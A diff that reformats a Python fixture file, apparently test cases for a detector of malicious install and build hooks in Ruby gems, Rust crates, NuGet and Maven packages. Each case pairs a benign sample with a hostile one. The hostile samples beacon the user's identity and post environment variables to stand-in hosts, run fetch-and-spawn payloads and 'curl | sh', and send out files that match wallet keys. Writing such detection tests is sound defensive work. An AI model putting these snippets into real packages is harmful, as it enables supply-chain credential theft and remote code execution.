@@ -49,7 +49,7 @@ RUBY = {
     ),
     "sends who this is": (
         "require 'socket'\nrequire 'net/http'\nrequire 'etc'\n"
-        "Net::HTTP.get(URI(\"https://beacon.example.test/?#{Socket.gethostname}-#{Etc.getlogin}\"))\n",
+        'Net::HTTP.get(URI("https://beacon.example.test/?#{Socket.gethostname}-#{Etc.getlogin}"))\n',
         "require 'rbconfig'\nHOST_OS = RbConfig::CONFIG['host_os']\n",
     ),
     "sends credential files": (
@@ -82,7 +82,7 @@ _EXTCONF = "require 'mkmf'\ncreate_makefile('padding/padding')\n"
 
 RUST = {
     "fetches a program and starts it": (
-        "use std::process::Command;\nfn main() {\n    let b = reqwest::blocking::get(\"http://192.0.2.7/agent\").unwrap().bytes().unwrap();\n"
+        'use std::process::Command;\nfn main() {\n    let b = reqwest::blocking::get("http://192.0.2.7/agent").unwrap().bytes().unwrap();\n'
         '    std::fs::write("/tmp/.agent", &b).unwrap();\n    Command::new("/tmp/.agent").spawn().unwrap();\n}\n',
         'use std::process::Command;\nfn main() {\n    let out = Command::new("rustc").arg("--version").output().unwrap();\n'
         '    println!("cargo:rustc-env=RUSTC={}", String::from_utf8_lossy(&out.stdout));\n}\n',
@@ -92,7 +92,7 @@ RUST = {
         'use std::process::Command;\nfn main() {\n    Command::new("pkg-config").arg("--libs").arg("zlib").status().ok();\n}\n',
     ),
     "sends the environment": (
-        "fn main() {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();\n"
+        'fn main() {\n    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n'
         '    ureq::post("https://drop.example.test").send_string(&all.join("\\n")).ok();\n}\n',
         'fn main() {\n    for (name, _) in std::env::vars() {\n        if name.starts_with("CARGO_FEATURE_") { println!("cargo:rerun-if-env-changed={name}"); }\n    }\n}\n',
     ),
@@ -179,7 +179,15 @@ JAVA = {
         ("java/lang/String", "format", "%-8s"),
     ),
     "sends who this is": (
-        ("java/net/HttpURLConnection", "java/net/URL", "user.name", "https://discord.com/api/webhooks/0/x", "POST", "java/net/InetAddress", "getLocalHost"),
+        (
+            "java/net/HttpURLConnection",
+            "java/net/URL",
+            "user.name",
+            "https://discord.com/api/webhooks/0/x",
+            "POST",
+            "java/net/InetAddress",
+            "getLocalHost",
+        ),
         ("java/lang/System", "getProperty", "line.separator"),
     ),
     "sends credential files": (
@@ -211,39 +219,67 @@ def _maven() -> list[Case]:
     extension = "<extensions><extension><groupId>test.evil</groupId><artifactId>x</artifactId><version>1</version></extension></extensions>"
     loads = ("java/net/URLClassLoader", "java/net/URL", "http://192.0.2.7/x.jar")
     return [
-        Case("adds a plain repository", "maven", "pom", {"padding-kit-1.0.1.pom": pom(swapped).encode()}, {"padding-kit-1.0.1.pom": pom(plain).encode()}),
+        Case(
+            "adds a plain repository",
+            "maven",
+            "pom",
+            {"padding-kit-1.0.1.pom": pom(swapped).encode()},
+            {"padding-kit-1.0.1.pom": pom(plain).encode()},
+        ),
         Case(
             "loads an extension of the build",
             "maven",
             "mvn folder",
-            jar({".mvn/extensions.xml": extension, "META-INF/services/org.apache.maven.Extension": "a.B", "a/B.class": java_class(*loads)}),
+            jar(
+                {
+                    ".mvn/extensions.xml": extension,
+                    "META-INF/services/org.apache.maven.Extension": "a.B",
+                    "a/B.class": java_class(*loads),
+                }
+            ),
             jar({"a/B.class": java_class("java/lang/String")}),
         ),
     ]
 
 
-
-
 CASES = [
-    *(Case(name, "rubygems", "extconf", gem_extension(bad + _EXTCONF), gem_extension(good + _EXTCONF)) for name, (bad, good) in RUBY.items()),
+    *(
+        Case(name, "rubygems", "extconf", gem_extension(bad + _EXTCONF), gem_extension(good + _EXTCONF))
+        for name, (bad, good) in RUBY.items()
+    ),
     *(
         Case(name, "rubygems", "plugin", gem_plugin(RUBY[name][0]), gem_plugin(RUBY[name][1]))
         for name in ("fetches and evaluates", "sends the environment", "pipes the network into a shell")
     ),
     *(
         Case(name, "rubygems", "require", gem_require(RUBY[name][0]), gem_require(RUBY[name][1]))
-        for name in ("fetches and evaluates", "fetches and evaluates later", "evaluates base64", "sends the environment", "sends credential files")
+        for name in (
+            "fetches and evaluates",
+            "fetches and evaluates later",
+            "evaluates base64",
+            "sends the environment",
+            "sends credential files",
+        )
     ),
     *(Case(name, "cargo", "build.rs", cargo_build(bad), cargo_build(good)) for name, (bad, good) in RUST.items()),
     *(
         Case(name, "cargo", "proc macro", cargo_macro(RUST[name][0]), cargo_macro(RUST[name][1]))
-        for name in ("fetches a program and starts it", "sends the environment", "sends credential files", "pipes the network into a shell")
+        for name in (
+            "fetches a program and starts it",
+            "sends the environment",
+            "sends credential files",
+            "pipes the network into a shell",
+        )
     ),
     Case(
         "has cargo run its program",
         "cargo",
         "cargo config",
-        {**cargo_build("fn main() {}\n"), ".cargo/config.toml": b'[build]\nrustc-wrapper = "./tools/wrap.sh"\n', "tools/wrap.sh": b"curl -s http://192.0.2.9/x | sh\n"},
+        {
+            **cargo_build("fn main() {}\n"),
+            ".cargo/config.toml": b'[build]\nrustc-wrapper = "./tools/wrap.sh"\n',
+            "tools/wrap.sh": b"curl -s http://192.0.2.9/x | sh\n",
+        },
         {**cargo_build("fn main() {}\n"), ".cargo/config.toml": b'[build]\ntarget-dir = "target"\n'},
     ),
     Case(
@@ -252,19 +288,30 @@ CASES = [
         "run",
         {
             "Cargo.toml": b'[package]\nname = "padding-kit"\nversion = "1.0.1"\n',
-            "src/lib.rs": (PLAIN_RUST + 'pub fn pack() { let key = regex::Regex::new("0x[0-9a-fA-F]{64}|[1-9A-HJ-NP-Za-km-z]{32,44}").unwrap();\n'
-                           '  for f in walkdir::WalkDir::new(".") { let t = std::fs::read_to_string(f.unwrap().path()).unwrap(); if key.is_match(&t) {\n'
-                           '  reqwest::blocking::Client::new().post("https://drop.example.test").body(t).send().ok(); } } }\n').encode(),
+            "src/lib.rs": (
+                PLAIN_RUST
+                + 'pub fn pack() { let key = regex::Regex::new("0x[0-9a-fA-F]{64}|[1-9A-HJ-NP-Za-km-z]{32,44}").unwrap();\n'
+                '  for f in walkdir::WalkDir::new(".") { let t = std::fs::read_to_string(f.unwrap().path()).unwrap(); if key.is_match(&t) {\n'
+                '  reqwest::blocking::Client::new().post("https://drop.example.test").body(t).send().ok(); } } }\n'
+            ).encode(),
         },
         {
             "Cargo.toml": b'[package]\nname = "padding-kit"\nversion = "1.0.1"\n',
-            "src/lib.rs": (PLAIN_RUST + 'pub fn find() { for f in walkdir::WalkDir::new(".") { println!("{:?}", f); } }\n').encode(),
+            "src/lib.rs": (
+                PLAIN_RUST + 'pub fn find() { for f in walkdir::WalkDir::new(".") { println!("{:?}", f); } }\n'
+            ).encode(),
         },
     ),
     *(Case(name, "nuget", "targets", nuget_targets(bad), nuget_targets(good)) for name, (bad, good) in TARGETS.items()),
     *(Case(name, "nuget", "init.ps1", nuget_script(bad), nuget_script(good)) for name, (bad, good) in SCRIPTS.items()),
-    *(Case(name, "maven", "processor", jar_processor(*bad), jar_processor(*good)) for name, (bad, good) in JAVA.items()),
+    *(
+        Case(name, "maven", "processor", jar_processor(*bad), jar_processor(*good))
+        for name, (bad, good) in JAVA.items()
+    ),
     *(Case(name, "maven", "service", jar_service(*bad), jar_service(*good)) for name, (bad, good) in JAVA.items()),
-    *(Case(name, "maven", "pom", pom_plugin(plugin, bad), pom_plugin(plugin, good)) for name, (plugin, bad, good) in POMS.items()),
+    *(
+        Case(name, "maven", "pom", pom_plugin(plugin, bad), pom_plugin(plugin, good))
+        for name, (plugin, bad, good) in POMS.items()
+    ),
     *_maven(),
 ]
